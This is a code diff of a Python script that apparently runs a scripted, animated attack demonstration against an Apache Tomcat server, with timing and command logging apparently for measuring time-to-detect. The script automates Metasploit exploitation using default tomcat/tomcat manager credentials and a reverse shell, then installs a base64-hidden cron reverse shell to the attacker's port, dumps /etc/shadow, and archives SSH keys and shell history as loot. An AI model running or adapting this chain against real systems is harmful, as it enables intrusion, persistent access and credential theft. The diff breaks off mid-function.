@@ -12,14 +12,32 @@ Prerequisites:
 """
 
 import argparse
+import base64
+import codecs
+import dataclasses
+import json
+import mmap
 import os
+import pty
+import select
 import shlex
+import signal
+import socket
+import struct
 import subprocess
 import sys
+import threading
 import time
+import uuid
+from collections import defaultdict
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import contextmanager
 from dataclasses import dataclass
-from enum import Enum
-from typing import NoReturn
+from datetime import datetime, timezone
+from enum import Enum, IntEnum
+from typing import Callable, Iterator, NoReturn, TextIO
+
+from msfrpc import DEFAULT_URL as DEFAULT_RPC_URL, MsfRpcClient, MsfRpcError
 
 
 class Color(str, Enum):
@@ -34,6 +52,10 @@ class Color(str, Enum):
     WHITE = "\033[1;37m"
     RESET = "\033[0m"
 
+    def __str__(self) -> str:
+        # Python 3.11+ formats mixed-in enums as "Color.RED" in f-strings
+        return self.value
+
 
 @dataclass
 class AttackConfig:
@@ -43,7 +65,348 @@ class AttackConfig:
     attacker_ip: str
     typing_delay: float = 0.0075  # Typing speed (4x original)
     phase_pause: float = 3.75  # Pause after phase intro (4x faster than original)
-    command_delay: float = 0.75  # Delay between commands (4x faster than original)
+    command_delay: float = 0.75  # Delay after each run_command() command (not part of an attack run)
+    prompt_pause: float = 0.25  # Pause after a command is typed, before it runs
+    session_pause: float = 0.5  # Pause after each session command's output (viewers only)
+    line_pause: float = 0.05  # Pause between the Phase 1 Metasploit lines shown on screen
+    launch_pause: float = 1.0  # Pause before msfconsole starts
+    render_typing: bool = True  # False for headless runs: print text instantly
+    lport: int = 4444  # Reverse shell handler port
+    persist_port: int = 4445  # Cron persistence callback port
+    rc_path: str = "/tmp/tomcatastrophe.rc"  # Generated msfconsole resource script
+    command_log: str | None = None  # JSON-lines log of executed commands (time-to-detect)
+    session_timeout: float = 15.0  # Max wait for the reverse shell session to register
+    cleanup_timeout: float = 5.0  # Max wait for previous runs' processes and ports to go away
+    pipeline: bool = False  # Send each phase's session commands in one round trip
+    rpc_url: str | None = None  # Use a warm msfrpcd at this URL instead of starting msfconsole
+    rpc_user: str = "msf"
+    rpc_password: str = ""
+    rpc_verify_tls: bool = False  # msfrpcd serves a self-signed certificate by default
+    command_timeout: float | None = None  # Stop run_command() commands after this many seconds
+    output_limit: int = 64 * 1024  # Bytes of run_command() output kept for its return value
+    run_id: str = ""  # Identifies this run's entries in the command log
+
+    @property
+    def timing_path(self) -> str:
+        """Where the msfconsole side of a run writes its per-phase timings."""
+        return f"{self.rc_path}.timing.json"
+
+
+# Every delay an attack run spends, which the scheduler may scale to fit a
+# --duration budget
+PACING_FIELDS = ("typing_delay", "prompt_pause", "phase_pause", "session_pause", "line_pause", "launch_pause")
+
+# Time outside the scheduler's control, used until a previous profile is supplied
+MSFCONSOLE_STARTUP_ESTIMATE = 20.0
+EXPLOIT_ESTIMATE = 8.0
+SESSION_COMMAND_ESTIMATE = 0.5
+
+
+@dataclass(frozen=True)
+class PhaseCommand:
+    """A command run on the target's shell during a phase."""
+
+    command: str
+    display: str | None = None  # Text typed on screen, if different from the command
+    show_output: bool = True
+
+
+@dataclass(frozen=True)
+class Phase:
+    """One post-exploitation phase of the attack chain."""
+
+    number: int
+    title: str
+    technique: str  # "T1082 - System Information Discovery"
+    description: str
+    commands: tuple[PhaseCommand, ...]
+    complete: str
+
+    @property
+    def technique_id(self) -> str:
+        return self.technique.split(" - ")[0]
+
+
+def attack_phases(config: AttackConfig) -> list[Phase]:
+    """Phases 3-7, as run through the session after initial access."""
+    cron_line = f"* * * * * /bin/bash -c 'bash -i >& /dev/tcp/{config.attacker_ip}/{config.persist_port} 0>&1'\n"
+    cron_b64 = base64.b64encode(cron_line.encode()).decode()
+    return [
+        Phase(
+            3,
+            "DISCOVERY",
+            "T1082 - System Information Discovery",
+            "Gathering information about the compromised system: users, OS version, architecture.",
+            tuple(PhaseCommand(cmd) for cmd in ("whoami", "id", "uname -a", "hostname", "cat /etc/passwd | grep -v nologin")),
+            "System enumeration complete. Target is running Ubuntu Linux as tomcat user.",
+        ),
+        Phase(
+            4,
+            "PRIVILEGE ESCALATION",
+            "T1548 - Abuse Elevation Control Mechanism",
+            "Checking sudo privileges to escalate from tomcat user to root.",
+            tuple(PhaseCommand(cmd) for cmd in ("sudo -l", "sudo -V | head -1", "sudo whoami")),
+            "Privilege escalation successful. Tomcat user has passwordless sudo to root.",
+        ),
+        Phase(
+            5,
+            "PERSISTENCE",
+            "T1053.003 - Scheduled Task/Job: Cron",
+            f"Installing a cron job that calls back to {config.attacker_ip}:{config.persist_port} every minute.",
+            (
+                PhaseCommand(
+                    f"echo {cron_b64} | base64 -d > /tmp/.cron; sudo crontab /tmp/.cron; rm -f /tmp/.cron",
+                    display="echo '* * * * * /bin/bash -c ...' | sudo crontab -",
+                    show_output=False,
+                ),
+                PhaseCommand("sudo crontab -l"),
+            ),
+            "Persistence established. Cron job will reconnect every minute even if we lose access.",
+        ),
+        Phase(
+            6,
+            "CREDENTIAL ACCESS",
+            "T1003.008 - OS Credential Dumping: /etc/shadow",
+            "Reading /etc/shadow to obtain password hashes for offline cracking.",
+            (PhaseCommand("sudo cat /etc/shadow"),),
+            "Password hashes extracted. These can be cracked offline with tools like hashcat.",
+        ),
+        Phase(
+            7,
+            "COLLECTION",
+            "T1560.001 - Archive Collected Data: Archive via Utility",
+            "Compressing sensitive files (/etc/shadow, /etc/passwd, SSH keys) for exfiltration.",
+            (
+                PhaseCommand(
+                    "sudo tar -czf /tmp/loot.tar.gz /etc/shadow /etc/passwd "
+                    "/home/ubuntu/.ssh/authorized_keys /home/ubuntu/.bash_history"
+                ),
+                PhaseCommand("ls -la /tmp/loot.tar.gz"),
+            ),
+            "Sensitive files archived and ready for exfiltration.",
+        ),
+    ]
+
+
+# One line per phase, shown by both backends once the chain completes
+ATTACK_SUMMARY = (
+    "Phase 1: Initial Access      - Exploited Tomcat Manager with weak credentials",
+    "Phase 3: Discovery           - Enumerated system info, users, and architecture",
+    "Phase 4: Privilege Escalation- Escalated to root via passwordless sudo",
+    "Phase 5: Persistence         - Installed cron job for persistent access",
+    "Phase 6: Credential Access   - Extracted password hashes from /etc/shadow",
+    "Phase 7: Collection          - Archived sensitive files for exfiltration",
+)
+
+
+def ruby_literal(value: str | int | bool | list) -> str:
+    """Write a value as a Ruby literal for the resource script.
+
+    JSON strings, numbers, booleans and arrays are valid Ruby; ``#`` is
+    escaped so text is never interpolated.
+    """
+    return json.dumps(value).replace("#", "\\#")
+
+
+def phase1_commands(config: AttackConfig) -> list[str]:
+    """The Phase 1 Metasploit commands shown on screen before msfconsole starts."""
+    return [
+        "# Start reverse shell handler",
+        "use exploit/multi/handler",
+        "set payload java/shell_reverse_tcp",
+        "set LHOST 0.0.0.0",
+        f"set LPORT {config.lport}",
+        "set ExitOnSession true",
+        "exploit -j",
+        "",
+        "# Exploit Tomcat Manager with weak credentials",
+        "use exploit/multi/http/tomcat_mgr_upload",
+        f"set RHOSTS {config.target_ip}",
+        "set RPORT 8080",
+        "set HttpUsername tomcat",
+        "set HttpPassword tomcat",
+        "set TARGETURI /manager",
+        "set payload java/shell_reverse_tcp",
+        f"set LHOST {config.attacker_ip}",
+        f"set LPORT {config.lport}",
+        "exploit",
+    ]
+
+
+@dataclass(frozen=True)
+class TimelineStep:
+    """One scheduled part of a run: a pause, typed text or a command."""
+
+    phase: int
+    kind: str  # "pause", "typing" or "command"
+    label: str
+    knob: str | None = None  # AttackConfig delay the step scales with
+    units: float = 0.0  # Multiples of the knob (characters, for typing)
+    estimate: float = 0.0  # Seconds outside the scheduler's control
+
+    def seconds(self, config: AttackConfig) -> float:
+        return self.estimate + (self.units * getattr(config, self.knob) if self.knob else 0.0)
+
+
+def build_timeline(config: AttackConfig) -> list[TimelineStep]:
+    """Lay out every phase, typed line and command of a run before it starts.
+
+    Phases 3-7 are laid out from attack_phases(), which both the resource
+    script and the RPC backend execute step for step.
+    """
+    steps: list[TimelineStep] = []
+    typing = config.render_typing
+
+    def typed(phase: int, text: str) -> None:
+        steps.append(TimelineStep(phase, "typing", text, "typing_delay", len(text) if typing else 0))
+
+    def pause(phase: int, knob: str, label: str, units: float = 1) -> None:
+        steps.append(TimelineStep(phase, "pause", label, knob, units))
+
+    pause(1, "phase_pause", "phase intro")
+    lines = phase1_commands(config)
+    for line in lines:
+        if line:
+            typed(1, line)
+    pause(1, "line_pause", "between Metasploit lines", len(lines))
+    if config.rpc_url:
+        steps.append(TimelineStep(1, "command", "handler, exploit and session", estimate=EXPLOIT_ESTIMATE))
+    else:
+        pause(1, "launch_pause", "before msfconsole")
+        typed(1, f"msfconsole -q -r {config.rc_path}")
+        pause(1, "prompt_pause", "after typing")
+        steps.append(
+            TimelineStep(1, "command", "msfconsole start-up, exploit and session", estimate=MSFCONSOLE_STARTUP_ESTIMATE + EXPLOIT_ESTIMATE)
+        )
+
+    for phase in attack_phases(config):
+        pause(phase.number, "phase_pause", "phase intro")
+        for step in phase.commands:
+            typed(phase.number, step.display or step.command)
+            pause(phase.number, "prompt_pause", "after typing")
+            steps.append(TimelineStep(phase.number, "command", step.command, estimate=SESSION_COMMAND_ESTIMATE))
+            pause(phase.number, "session_pause", "after output", 1 if typing else 0)
+    return steps
+
+
+def calibrate_timeline(steps: list[TimelineStep], profile: dict) -> list[TimelineStep]:
+    """Replace command-time estimates with the per-phase times measured in a previous profile."""
+    measured = {entry["phase"]: entry["actual"].get("command", 0.0) for entry in profile.get("phases", [])}
+    estimated: dict[int, float] = defaultdict(float)
+    for step in steps:
+        estimated[step.phase] += step.estimate
+    return [
+        dataclasses.replace(step, estimate=step.estimate * measured[step.phase] / estimated[step.phase])
+        if step.estimate and step.phase in measured and estimated[step.phase]
+        else step
+        for step in steps
+    ]
+
+
+def solve_pacing(config: AttackConfig, duration: float, steps: list[TimelineStep]) -> tuple[AttackConfig, float]:
+    """Scale every delay by one factor so the planned timeline fits ``duration``.
+
+    Returns the paced config and the factor. Command time is not scalable, so
+    a budget below it leaves every delay at zero.
+    """
+    fixed = sum(step.estimate for step in steps)
+    scalable = sum(step.seconds(config) - step.estimate for step in steps)
+    if scalable <= 0:
+        return config, 1.0
+    scale = max(0.0, (duration - fixed) / scalable)
+    return dataclasses.replace(config, **{name: getattr(config, name) * scale for name in PACING_FIELDS}), scale
+
+
+class TimingProfile:
+    """Seconds actually spent per phase on typing, pauses and commands."""
+
+    KINDS = ("typing", "pause", "command")
+
+    def __init__(self):
+        self.actual: dict[tuple[int, str], float] = defaultdict(float)
+        self.started = time.monotonic()
+
+    @contextmanager
+    def timed(self, phase: int, kind: str) -> Iterator[None]:
+        start = time.monotonic()
+        try:
+            yield
+        finally:
+            self.actual[(phase, kind)] += time.monotonic() - start
+
+    def add(self, phase: int, kind: str, seconds: float) -> None:
+        self.actual[(phase, kind)] += seconds
+
+    def merge_file(self, path: str) -> float:
+        """Add timings written by the msfconsole side; returns their total."""
+        try:
+            with open(path) as f:
+                entries = json.load(f)
+        except (OSError, ValueError):
+            return 0.0
+        total = 0.0
+        for key, seconds in entries.items():
+            phase, kind = key.split("/", 1)
+            self.add(int(phase), kind, seconds)
+            total += seconds
+        return total
+
+    def report(self, config: AttackConfig, steps: list[TimelineStep], target: float | None, scale: float) -> dict:
+        """Planned against actual seconds per phase and kind."""
+        planned: dict[tuple[int, str], float] = defaultdict(float)
+        for step in steps:
+            planned[(step.phase, step.kind)] += step.seconds(config)
+        techniques = {1: "T1190", **{phase.number: phase.technique_id for phase in attack_phases(config)}}
+        phases = []
+        for number in sorted({phase for phase, _ in planned} | {phase for phase, _ in self.actual}):
+            phases.append({
+                "phase": number,
+                "technique": techniques.get(number, ""),
+                "planned": {kind: round(planned[(number, kind)], 3) for kind in self.KINDS},
+                "actual": {kind: round(self.actual.get((number, kind), 0.0), 3) for kind in self.KINDS},
+            })
+        return {
+            "run_id": config.run_id,
+            "target": config.target_ip,
+            "duration_target": target,
+            "scale": round(scale, 4),
+            "pacing": {name: getattr(config, name) for name in PACING_FIELDS},
+            "planned_total": round(sum(planned.values()), 3),
+            "actual_total": round(time.monotonic() - self.started, 3),
+            "phases": phases,
+        }
+
+
+def print_timing_profile(report: dict) -> None:
+    """Print planned against actual time per phase."""
+    print()
+    Logger.info("Timing profile (planned / actual seconds):")
+    Logger.info(f"  {'Phase':<6}{'Technique':<11}" + "".join(f"{kind:>16}" for kind in TimingProfile.KINDS) + f"{'total':>16}")
+    for entry in report["phases"]:
+        cells = [f"{entry['planned'][kind]:.1f} / {entry['actual'][kind]:.1f}" for kind in TimingProfile.KINDS]
+        total = f"{sum(entry['planned'].values()):.1f} / {sum(entry['actual'].values()):.1f}"
+        Logger.info(f"  {entry['phase']:<6}{entry['technique']:<11}" + "".join(f"{cell:>16}" for cell in cells) + f"{total:>16}")
+    target = f" (target {report['duration_target']:g}s)" if report["duration_target"] else ""
+    Logger.info(f"  Planned {report['planned_total']:.1f}s, ran {report['actual_total']:.1f}s{target}")
+
+
+def print_timeline(config: AttackConfig, steps: list[TimelineStep], duration: float | None, scale: float) -> None:
+    """Print the planned runtime per phase and the delays chosen for it."""
+    fixed = sum(step.estimate for step in steps)
+    total = sum(step.seconds(config) for step in steps)
+    Logger.info(
+        f"Timeline: {len(steps)} steps, {total:.1f}s planned "
+        f"({total - fixed:.1f}s of delays at {scale:.2f}x, {fixed:.1f}s estimated command time)"
+    )
+    if duration and fixed > duration:
+        Logger.info(f"{Color.YELLOW}Estimated command time alone exceeds {duration:g}s; running with no delays{Color.RESET}")
+    for number in sorted({step.phase for step in steps}):
+        kinds = {kind: sum(step.seconds(config) for step in steps if step.phase == number and step.kind == kind) for kind in TimingProfile.KINDS}
+        Logger.info(
+            f"  Phase {number}: {sum(kinds.values()):6.1f}s "
+            f"(typing {kinds['typing']:.1f}s, pauses {kinds['pause']:.1f}s, commands {kinds['command']:.1f}s)"
+        )
+    Logger.info("  Delays: " + ", ".join(f"{name} {getattr(config, name):.4g}s" for name in PACING_FIELDS))
 
 
 class Logger:
@@ -87,109 +450,651 @@ class Logger:
         print()
 
 
+class TypingRenderer:
+    """Frame-based typing effect driven by a monotonic clock.
+
+    Instead of one write/flush/sleep per character, the renderer works out how
+    many characters should be visible at each terminal frame and writes them as
+    a single chunk. Progress is measured from the start of the text, so sleep
+    overshoot is absorbed by the next frame rather than accumulating, and the
+    on-screen speed matches ``char_delay``.
+    """
+
+    FRAME_INTERVAL = 1 / 60  # Seconds between terminal frames
+
+    def __init__(
+        self,
+        char_delay: float,
+        render: bool = True,
+        stream: TextIO | None = None,
+        frame_interval: float = FRAME_INTERVAL,
+    ):
+        self.char_delay = char_delay
+        self.render = render
+        self.stream = stream
+        self.frame_interval = frame_interval
+
+    def type(self, text: str, color: str = "", end: str = "\n") -> None:
+        """Write text with a typing effect, optionally wrapped in a color."""
+        stream = self.stream or sys.stdout
+        if color:
+            stream.write(color)
+
+        if not self.render or self.char_delay <= 0 or not text:
+            stream.write(text)
+        else:
+            self._animate(stream, text)
+
+        if color:
+            stream.write(Color.RESET)
+        stream.write(end)
+        stream.flush()
+
+    def _animate(self, stream: TextIO, text: str) -> None:
+        """Write text in per-frame chunks until all characters are shown."""
+        total = len(text)
+        written = 0
+        start = time.monotonic()
+        while written < total:
+            elapsed = time.monotonic() - start
+            due = min(total, int(elapsed / self.char_delay) + 1)
+            if due > written:
+                stream.write(text[written:due])
+                stream.flush()
+                written = due
+            if written >= total:
+                break
+            # Wake at the next frame, but never before the next character is
+            # due and never after the last one is
+            now = time.monotonic()
+            next_char_at = start + written * self.char_delay
+            last_char_at = start + (total - 1) * self.char_delay
+            wake_at = max(next_char_at, min(now + self.frame_interval, last_char_at))
+            delay = wake_at - now
+            if delay > 0:
+                time.sleep(delay)
+
+
+class CommandLog:
+    """Append-only JSON-lines log of the commands an attack run executes.
+
+    Each line records when a command started, how long it ran, and the phase
+    and MITRE technique it belongs to. The resource script's Ruby helper
+    appends lines in the same format for commands sent through the
+    Metasploit session, so one file covers the whole run. time_to_detect.py
+    correlates the log with alerts.
+    """
+
+    def __init__(self, path: str, run_id: str, target: str):
+        self.path = path
+        self.run_id = run_id
+        self.target = target
+        self._lock = threading.Lock()
+
+    def record(
+        self,
+        command: str,
+        phase: int,
+        technique: str,
+        started: float,
+        duration: float,
+        returncode: int | None = None,
+    ) -> None:
+        """Append one command; ``started`` is a time.time() timestamp."""
+        entry = {
+            "@timestamp": datetime.fromtimestamp(started, timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z"),
+            "run_id": self.run_id,
+            "target": self.target,
+            "source": "python",
+            "phase": phase,
+            "technique": technique,
+            "command": command,
+            "duration_ms": round(duration * 1000),
+        }
+        if returncode is not None:
+            entry["returncode"] = returncode
+        with self._lock, open(self.path, "a") as f:
+            f.write(json.dumps(entry, separators=(",", ":")) + "\n")
+
+
+class TraceKind(IntEnum):
+    """Record types in a session trace."""
+
+    WRITE = 1  # Raw terminal output (Logger lines, msfconsole output)
+    TYPE = 2  # Text typed through DemoTerminal.type_text
+
+
+class TraceRecorder:
+    """Writes a compact binary trace of everything shown during a run.
+
+    Layout: a magic line, one JSON metadata line, then records of
+    ``<kind: u8><delay since previous record in us: u32><length: u32>``
+    followed by UTF-8 payload. Output chunks arriving within
+    ``COALESCE_WINDOW`` of each other are merged into one record, so
+    character-by-character typing from msfconsole stays small on disk.
+    """
+
+    MAGIC = b"TOMCATASTROPHE-TRACE 1\n"
+    RECORD = struct.Struct("<BII")
+    COALESCE_WINDOW = 0.02  # Seconds
+
+    def __init__(self, path: str, metadata: dict, stream: TextIO | None = None):
+        self.path = path
+        self.stream = stream or sys.stdout  # Real terminal, bypassing the tee
+        self._file = open(path, "wb")
+        self._file.write(self.MAGIC)
+        self._file.write(json.dumps(metadata).encode() + b"\n")
+        self._lock = threading.Lock()
+        self._last_time = time.monotonic()
+        self._pending: list[str] = []
+        self._pending_time = 0.0
+
+    def _write_record(self, kind: TraceKind, at: float, payload: str) -> None:
+        data = payload.encode()
+        delay_us = min(int((at - self._last_time) * 1_000_000), 0xFFFFFFFF)
+        self._file.write(self.RECORD.pack(kind, max(delay_us, 0), len(data)))
+        self._file.write(data)
+        self._last_time = at
+
+    def _flush_pending(self) -> None:
+        if self._pending:
+            self._write_record(TraceKind.WRITE, self._pending_time, "".join(self._pending))
+            self._pending = []
+
+    def write(self, text: str) -> None:
+        """Record raw output."""
+        if not text:
+            return
+        now = time.monotonic()
+        with self._lock:
+            if self._pending and now - self._pending_time > self.COALESCE_WINDOW:
+                self._flush_pending()
+            if not self._pending:
+                self._pending_time = now
+            self._pending.append(text)
+
+    def type(self, text: str, color: str = "") -> None:
+        """Record text about to be typed with the typing effect."""
+        with self._lock:
+            self._flush_pending()
+            self._write_record(TraceKind.TYPE, time.monotonic(), f"{color}\0{text}")
+
+    def close(self) -> None:
+        with self._lock:
+            self._flush_pending()
+            self._file.close()
+
+
+class RecordingStream:
+    """Stdout wrapper that copies everything written to a TraceRecorder."""
+
+    def __init__(self, stream: TextIO, recorder: TraceRecorder):
+        self._stream = stream
+        self._recorder = recorder
+
+    def write(self, text: str) -> int:
+        self._recorder.write(text)
+        return self._stream.write(text)
+
+    def __getattr__(self, name: str):
+        return getattr(self._stream, name)
+
+
+class TracePlayer:
+    """Replays a recorded trace through the normal terminal rendering.
+
+    The trace is memory-mapped and decoded record by record, so playback of a
+    long session starts immediately. ``speed`` scales time: 2.0 plays twice as
+    fast, 0 removes every delay.
+    """
+
+    def __init__(self, path: str, terminal: "DemoTerminal", speed: float = 1.0):
+        self.path = path
+        self.terminal = terminal
+        self.speed = speed
+
+    def records(self) -> Iterator[tuple[TraceKind, float, str]]:
+        """Yield (kind, offset in seconds, payload) without loading the whole file."""
+        with open(self.path, "rb") as f, mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ) as data:
+            if data[:len(TraceRecorder.MAGIC)] != TraceRecorder.MAGIC:
+                raise ValueError(f"{self.path} is not a tomcatastrophe trace")
+            pos = data.find(b"\n", len(TraceRecorder.MAGIC)) + 1
+            offset = 0.0
+            header_size = TraceRecorder.RECORD.size
+            while pos + header_size <= len(data):
+                kind, delay_us, length = TraceRecorder.RECORD.unpack_from(data, pos)
+                pos += header_size
+                offset += delay_us / 1_000_000
+                yield TraceKind(kind), offset, data[pos:pos + length].decode(errors="replace")
+                pos += length
+
+    def metadata(self) -> dict:
+        with open(self.path, "rb") as f:
+            f.readline()
+            return json.loads(f.readline())
+
+    def play(self) -> None:
+        start = time.monotonic()
+        for kind, offset, payload in self.records():
+            if self.speed > 0:
+                delay = start + offset / self.speed - time.monotonic()
+                if delay > 0:
+                    time.sleep(delay)
+            if kind == TraceKind.TYPE:
+                color, _, text = payload.partition("\0")
+                self.terminal.type_text(text, color=color)
+            else:
+                sys.stdout.write(payload)
+                sys.stdout.flush()
+
+
+def wait_until(predicate: Callable[[], bool], timeout: float, interval: float = 0.05) -> bool:
+    """Poll ``predicate`` until it is true; returns False if ``timeout`` expires first."""
+    deadline = time.monotonic() + timeout
+    while not predicate():
+        remaining = deadline - time.monotonic()
+        if remaining <= 0:
+            return False
+        time.sleep(min(interval, remaining))
+    return True
+
+
+def port_free(port: int) -> bool:
+    """True if nothing is listening on ``port`` (it can be bound again)."""
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        try:
+            sock.bind(("0.0.0.0", port))
+        except OSError:
+            return False
+    return True
+
+
+class ProcessSupervisor:
+    """Tracks the processes a run spawns and stops them by process group.
+
+    Background processes start in their own process group, so stopping one
+    also stops whatever it forked. Stopping sends SIGTERM and waits on the
+    actual exit, escalating to SIGKILL after ``grace`` seconds, rather than
+    signalling and sleeping for a fixed time.
+    """
+
+    def __init__(self, grace: float = 3.0):
+        self.grace = grace
+        self._groups: dict[subprocess.Popen, bool] = {}
+        self._lock = threading.Lock()
+
+    def spawn(self, argv: list[str], foreground: bool = False, **kwargs) -> subprocess.Popen:
+        """Start and track a process.
+
+        Foreground processes (msfconsole on the terminal) stay in our process
+        group so they keep terminal input; everything else gets its own group.
+        """
+        if not foreground:
+            kwargs["start_new_session"] = True
+        process = subprocess.Popen(argv, **kwargs)
+        with self._lock:
+            self._groups[process] = not foreground
+        return process
+
+    def _signal(self, process: subprocess.Popen, sig: int, group: bool) -> None:
+        try:
+            if group:
+                os.killpg(process.pid, sig)
+            else:
+                process.send_signal(sig)
+        except ProcessLookupError:
+            pass
+
+    def _forget(self, process: subprocess.Popen) -> bool:
+        with self._lock:
+            return self._groups.pop(process, False)
+
+    def wait(self, process: subprocess.Popen) -> int:
+        """Wait for a process to exit, then stop anything left in its group."""
+        returncode = process.wait()
+        if self._forget(process):
+            self._signal(process, signal.SIGKILL, group=True)
+        return returncode
+
+    def stop(self, process: subprocess.Popen) -> int:
+        """Terminate a process (and its group) and wait for it to exit."""
+        with self._lock:
+            group = self._groups.get(process, False)
+        if process.poll() is None:
+            self._signal(process, signal.SIGTERM, group)
+            try:
+                process.wait(self.grace)
+            except subprocess.TimeoutExpired:
+                self._signal(process, signal.SIGKILL, group)
+                process.wait()
+        if self._forget(process):
+            self._signal(process, signal.SIGKILL, group=True)
+        return process.returncode
+
+    def shutdown(self) -> None:
+        """Stop every process that is still tracked."""
+        with self._lock:
+            processes = list(self._groups)
+        for process in processes:
+            self.stop(process)
+
+
+class OutputBuffer:
+    """Keeps the last ``limit`` bytes of a command's output."""
+
+    def __init__(self, limit: int):
+        self.limit = limit
+        self.data = bytearray()
+        self.dropped = 0
+
+    def append(self, chunk: bytes) -> None:
+        self.data += chunk
+        excess = len(self.data) - self.limit
+        if excess > 0:
+            del self.data[:excess]
+            self.dropped += excess
+
+    def text(self) -> str:
+        text = self.data.decode("utf-8", errors="replace").replace("\r\n", "\n")
+        if self.dropped:
+            text = f"[... {self.dropped} bytes of earlier output dropped ...]\n" + text
+        return text
+
+
 class DemoTerminal:
     """Handles demo-style command execution with typing effect."""
 
-    def __init__(self, config: AttackConfig):
+    def __init__(
+        self,
+        config: AttackConfig,
+        recorder: TraceRecorder | None = None,
+        command_log: CommandLog | None = None,
+        supervisor: ProcessSupervisor | None = None,
+    ):
         self.config = config
+        self.recorder = recorder
+        self.command_log = command_log
+        self.supervisor = supervisor or ProcessSupervisor()
+        self.phase = (0, "")  # (phase number, MITRE technique) for logged commands
+        self.profile = TimingProfile()
+        self.renderer = TypingRenderer(
+            config.typing_delay,
+            render=config.render_typing,
+            stream=recorder.stream if recorder else None,
+        )
 
     def type_text(self, text: str, color: str = "") -> None:
         """Print text with typing effect for demo visibility."""
-        if color:
-            sys.stdout.write(color)
-        for char in text:
-            sys.stdout.write(char)
+        if self.recorder:
             sys.stdout.flush()
-            time.sleep(self.config.typing_delay)
-        if color:
-            sys.stdout.write(Color.RESET)
-        print()
-
-    def run_command(self, cmd: str, show_output: bool = True) -> tuple[int, str]:
-        """Run a shell command with demo-style display.
-
-        Commands are shown in GREEN (what attacker types).
-        Output is shown in default color (what attacker reads).
-        """
-        # Prompt in cyan, command typed in green
+            self.recorder.type(text, color)
+        with self.profile.timed(self.phase[0], "typing"):
+            self.renderer.type(text, color=color)
+
+    def pause(self, seconds: float) -> None:
+        """Sleep for a pacing delay, counted against the current phase."""
+        if seconds > 0:
+            with self.profile.timed(self.phase[0], "pause"):
+                time.sleep(seconds)
+
+    def prompt(self, cmd: str) -> None:
+        """Show a cyan prompt and type the command in green."""
         sys.stdout.write(f"{Color.CYAN}$ {Color.RESET}")
         sys.stdout.flush()
         self.type_text(cmd, color=Color.GREEN)
+        self.pause(self.config.prompt_pause)
+
+    def run_command(
+        self,
+        cmd: str,
+        show_output: bool = True,
+        timeout: float | None = None,
+        use_pty: bool = True,
+    ) -> tuple[int, str]:
+        """Run a shell command with demo-style display.
 
-        time.sleep(0.25)
-
-        result = subprocess.run(
-            shlex.split(cmd),
-            capture_output=True,
-            text=True,
-        )
-
-        output = result.stdout + result.stderr
+        Commands are shown in GREEN (what attacker types).
+        Output is shown in default color (what attacker reads) as it arrives.
 
-        # Output in default color (what attacker reads back)
-        if show_output and output.strip():
-            print(output.rstrip())
+        Output is read through a PTY, so the command line-buffers as it would
+        on a terminal, or through a pipe with ``use_pty=False``. Only the last
+        ``output_limit`` bytes are kept for the returned text. A command still
+        running after ``timeout`` seconds (default: ``command_timeout``) is
+        stopped and reported with exit code 124, like timeout(1).
+        """
+        self.prompt(cmd)
+        if timeout is None:
+            timeout = self.config.command_timeout
 
-        time.sleep(self.config.command_delay)
-        return result.returncode, output
+        started = time.time()
+        read_fd, write_fd = pty.openpty() if use_pty else os.pipe()
+        try:
+            process = self.supervisor.spawn(
+                shlex.split(cmd),
+                stdin=subprocess.DEVNULL,
+                stdout=write_fd,
+                stderr=write_fd,
+            )
+        except OSError:
+            os.close(read_fd)
+            raise
+        finally:
+            os.close(write_fd)
+
+        buffer = OutputBuffer(self.config.output_limit)
+        try:
+            with self.profile.timed(self.phase[0], "command"):
+                finished = self._pump_output(process, read_fd, buffer, show_output, started + timeout if timeout else None)
+        finally:
+            os.close(read_fd)
+        if finished:
+            returncode = self.supervisor.wait(process)
+        else:
+            self.supervisor.stop(process)
+            returncode = 124
+            Logger.info(f"{Color.YELLOW}Command timed out after {timeout:g}s{Color.RESET}")
+        self._log(cmd, started, returncode)
+
+        self.pause(self.config.command_delay)
+        return returncode, buffer.text()
+
+    def _pump_output(
+        self,
+        process: subprocess.Popen,
+        fd: int,
+        buffer: OutputBuffer,
+        show_output: bool,
+        deadline: float | None,
+    ) -> bool:
+        """Copy a command's output to the screen and ``buffer`` until it exits.
+
+        Returns False if ``deadline`` passed first.
+        """
+        decoder = codecs.getincrementaldecoder("utf-8")(errors="replace")
+        last = "\n"
+        exited = False
+        try:
+            while True:
+                wait = 0.1
+                if deadline is not None:
+                    wait = min(wait, deadline - time.time())
+                    if wait <= 0:
+                        return False
+                ready, _, _ = select.select([fd], [], [], wait)
+                if not ready:
+                    # Exited but a forked child still holds the output open
+                    if exited:
+                        return True
+                    exited = process.poll() is not None
+                    continue
+                try:
+                    chunk = os.read(fd, 65536)
+                except OSError:  # EIO: the PTY closed when the command exited
+                    chunk = b""
+                if not chunk:
+                    return True
+                buffer.append(chunk)
+                if show_output:
+                    text = decoder.decode(chunk)
+                    if text:
+                        sys.stdout.write(text)
+                        sys.stdout.flush()
+                        last = text[-1]
+        finally:
+            if last not in "\r\n":
+                sys.stdout.write("\n")
+                sys.stdout.flush()
 
     def run_interactive(self, cmd: str) -> int:
         """Run an interactive command (like msfconsole) with full PTY."""
-        # Prompt in cyan, command typed in green
-        sys.stdout.write(f"{Color.CYAN}$ {Color.RESET}")
-        sys.stdout.flush()
-        self.type_text(cmd, color=Color.GREEN)
+        self.prompt(cmd)
+
+        started = time.time()
+        with self.profile.timed(self.phase[0], "command"):
+            if self.recorder:
+                returncode = self._spawn_recorded(shlex.split(cmd))
+            else:
+                process = self.supervisor.spawn(shlex.split(cmd), foreground=True)
+                returncode = self.supervisor.wait(process)
+        self._log(cmd, started, returncode)
+        return returncode
+
+    def _log(self, cmd: str, started: float, returncode: int | None) -> None:
+        if self.command_log:
+            phase, technique = self.phase
+            self.command_log.record(cmd, phase, technique, started, time.time() - started, returncode)
 
-        time.sleep(0.25)
+    def _spawn_recorded(self, argv: list[str]) -> int:
+        """Run a command on a PTY, copying its output into the trace."""
+        decoder = codecs.getincrementaldecoder("utf-8")(errors="replace")
 
-        result = subprocess.run(shlex.split(cmd))
-        return result.returncode
+        def read(fd: int) -> bytes:
+            data = os.read(fd, 4096)
+            self.recorder.write(decoder.decode(data))
+            return data
+
+        sys.stdout.flush()
+        status = pty.spawn(argv, read)
